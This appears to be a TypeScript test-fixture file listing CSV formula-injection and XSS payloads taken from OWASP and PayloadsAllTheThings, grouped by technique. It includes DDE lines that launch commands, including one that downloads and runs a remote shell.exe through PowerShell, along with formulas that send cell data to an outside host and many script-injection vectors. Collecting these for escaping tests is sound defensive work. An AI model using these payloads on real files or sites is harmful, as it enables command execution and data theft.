/**
 * What people have tried to make spreadsheets and web pages run, by what it is.
 *
 * @source OWASP, CSV Injection and XSS Filter Evasion Cheat Sheet; PayloadsAllTheThings, CSV Injection
 */
export const injections: Readonly<Record<string, readonly string[]>> = {
  'a formula': [
    '=1+1', '+1+1', '-1+1', '@SUM(1;1)', '==1+1', '=+1', '-2+3+cmd|\' /C calc\'!A0', '="=1+1"', '=1+1&"x"', '{=1+1}', '=SUM(A1:A9)', '=A1', '+46 70 174 06 05', '- en punkt i en lista',
  ],
  'a formula that fetches or sends': [
    '=HYPERLINK("https://exempel.se/?x="&A1;"Klicka")', '=IMPORTXML("https://exempel.se/csv";"//a/@href")', '=IMPORTDATA("https://exempel.se/"&B2)',
    '=IMPORTRANGE("https://exempel.se/1";"Blad1!A1")', '=IMPORTHTML("https://exempel.se";"table";1)', '=IMPORTFEED("https://exempel.se/rss")',
    '=IMAGE("https://exempel.se/bild.png?"&A1)', '=WEBSERVICE("https://exempel.se/"&A1)', '=GOOGLEFINANCE("X")',
  ],
  'a command by Dynamic Data Exchange': [
    "=cmd|'/C calc'!A0", "=cmd|' /C calc'!'A1'", "@SUM(1+1)*cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", "+cmd|'/C calc'!A0", 'DDE ("cmd";"/C calc";"!A0")A0',
    "=cmd|'/C powershell IEX(wget exempel.se/shell.exe)'!A0", '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A', "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=    C    m D    |    '/    c  al  c  . e  x  e'   !   A",
  ],
  'a formula behind something that is passed over': [
    ' =1+1', '   +1+1', '\t=1+1', '\r=1+1', '\n=1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\u2060=1+1', '\u0000=1+1', "'=1+1", "''=1+1", '"=1+1"', '%0A=1+1',
  ],
  'a formula in signs of full width': ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '−1+1'],
  'a formula in a later field of a file': ['x;=1+1', 'x,=1+1', 'x\t=1+1', 'x\n=1+1', 'x\r\n=1+1', 'x|=1+1', '";=1+1;"', '"\r\n=1+1;"', '";\n@SUM(1);"', 'x";=HYPERLINK("https://exempel.se");"y'],
  HTML: [
    '<script>alert(1)</script>', '"><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert&#40;1)</script></svg>',
    '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">här</a>', '<b onmouseover=alert(1)>fet</b>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>', '<math><mtext><img src=x onerror=alert(1)></mtext></math>', '<style>*{display:none}</style>', '<base href="https://exempel.se/">',
    '<meta http-equiv="refresh" content="0;url=https://exempel.se/">', '<link rel=stylesheet href="https://exempel.se/x.css">', '<template><img src=x onerror=alert(1)></template>',
  ],
  'HTML that closes what it stands in': [
    '</textarea><img src=x onerror=alert(1)>', '</title><script>alert(1)</script>', '</option></select><img src=x onerror=alert(1)>', '--><img src=x onerror=alert(1)>', '" onfocus="alert(1)" x="',
    "' onclick='alert(1)", '</script><script>alert(1)</script>', ']]><script>alert(1)</script>',
  ],
  'code in other forms': [
    'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '&lt;img src=x onerror=alert(1)&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&amp;lt;b&amp;gt;', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '%3Cscript%3Ealert(1)%3C/script%3E', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>', '#{7*7}', '{{registrets länk}}', '[här](javascript:alert(1))', '__proto__', 'constructor', '＜script＞alert(1)＜/script＞',
  ],
};

export const payloads: readonly string[] = Object.values(injections).flat();
